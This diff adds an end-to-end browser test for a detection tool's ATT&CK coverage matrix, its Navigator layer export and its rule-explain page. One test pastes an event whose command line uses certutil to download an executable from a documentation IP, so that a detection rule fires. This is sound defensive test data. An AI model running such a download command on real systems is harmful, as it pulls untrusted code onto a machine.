@@ -1,0 +1,93 @@
+// What rules cover and why they fire: the matrix with its gaps and shades, the layer that leaves it, an event
+// pasted on a rule's page. Each page is checked for accessibility in both themes and for overflow on a phone.
+import assert from "node:assert/strict";
+import { readFile } from "node:fs/promises";
+import { join } from "node:path";
+import { after, before, test } from "node:test";
+import { assertAccessible, assertNoOverflow, newPage, picture, startBrowser } from "../tests/support.mjs";
+import { intrusion, setUp, startWatchbell } from "./world.mjs";
+
+const LIMIT = { timeout: 120_000 };
+let world, browser, page, key;
+
+before(async () => {
+  world = await startWatchbell();
+  browser = await startBrowser();
+  page = await newPage(browser, { origin: world.origin });
+  await setUp(page, world);
+  key = (await readFile(join(world.data, "cli-key"), "utf8")).trim();
+}, LIMIT);
+
+after(async () => {
+  await browser?.stop();
+  await world?.stop();
+}, LIMIT);
+
+/** The page as it is now, in both themes, at desk and phone width. */
+async function holds(name) {
+  const desk = page.viewportSize();
+  for (const colorScheme of ["light", "dark"]) {
+    await page.emulateMedia({ colorScheme });
+    await assertAccessible(page, `${name}, ${colorScheme}`);
+    await assertNoOverflow(page, name);
+    await picture(page, `${name}-${colorScheme}`);
+  }
+  await page.setViewportSize({ width: 390, height: 844 });
+  await assertNoOverflow(page, `${name} on a phone`);
+  await picture(page, `${name}-phone-dark`);
+  await page.emulateMedia({ colorScheme: "light" });
+  await picture(page, `${name}-phone`);
+  await page.setViewportSize(desk);
+  assert.deepEqual(page.faults, [], name);
+}
+
+test("the matrix shows what rules cover, what has fired, and what is missing", LIMIT, async () => {
+  const headers = { authorization: `Bearer ${key}`, "content-type": "application/octet-stream" };
+  const body = `${intrusion("ws-17.example.org")}\n`;
+  const sent = await fetch(`${world.origin}/api/v1/sources/collector/events?format=json-lines`, { method: "POST", headers, body });
+  assert.ok(sent.ok, await sent.text());
+  await page.goto("/rules");
+  await page.getByRole("link", { name: "Coverage of ATT&CK" }).click();
+  await page.getByRole("heading", { name: "Coverage of ATT&CK" }).waitFor();
+  assert.equal(await page.locator(".attack-tactic").count(), 15);
+  await holds("coverage");
+  await page.getByLabel("Shade by").selectOption("alerts");
+  await page.getByLabel("Show").selectOption("all");
+  await page.getByRole("button", { name: "Apply" }).click();
+  await page.getByText("no rule", { exact: false }).first().waitFor();
+  await holds("coverage-gaps");
+  const alerts = page.locator(".attack-facts a").first();
+  const technique = (await alerts.locator("xpath=..").textContent()).split(" ")[0];
+  await alerts.click();
+  await page.locator("table tbody tr", { hasText: technique }).first().waitFor();
+  await page.goto("/rules/coverage?source=windows");
+  const waiting = page.waitForEvent("download");
+  await page.getByRole("link", { name: "Navigator layer" }).click();
+  const layer = JSON.parse(await readFile(await (await waiting).path(), "utf8"));
+  assert.equal(layer.versions.layer, "4.5");
+  assert.ok(layer.techniques.some((one) => one.score > 0));
+});
+
+test("a cell leads to its rules, and a rule explains an event that is pasted", LIMIT, async () => {
+  await page.goto("/rules/coverage");
+  await page.getByRole("link", { name: "Ingress Tool Transfer" }).first().click();
+  await page.locator(".row-link", { hasText: /certutil/i }).first().click();
+  await page.getByRole("heading", { name: "Try an event" }).waitFor();
+  await page.getByLabel("A record as its log has it").fill(JSON.stringify({
+    Image: "C:\\Windows\\System32\\certutil.exe", CommandLine: "certutil.exe -hashfile a.exe", User: "CORP\\reader",
+  }));
+  await page.getByLabel(/Take it for/).check();
+  await page.getByRole("button", { name: "Explain" }).click();
+  await page.getByText("The rule does not fire").waitFor();
+  await page.locator(".explain-tree li[data-holds=false]").first().waitFor();
+  await holds("explain-silent");
+  const field = page.getByLabel("A record as its log has it");
+  await field.fill((await field.inputValue()).replace("-hashfile a.exe", "-urlcache -split -f http://203.0.113.9/a.exe a.exe"));
+  await page.getByRole("button", { name: "Explain" }).click();
+  await page.getByText("The rule fires").waitFor();
+  await holds("explain-fires");
+  await field.fill("{");
+  await page.getByRole("button", { name: "Explain" }).click();
+  await page.locator("#try .error").waitFor();
+  await holds("explain-error");
+});
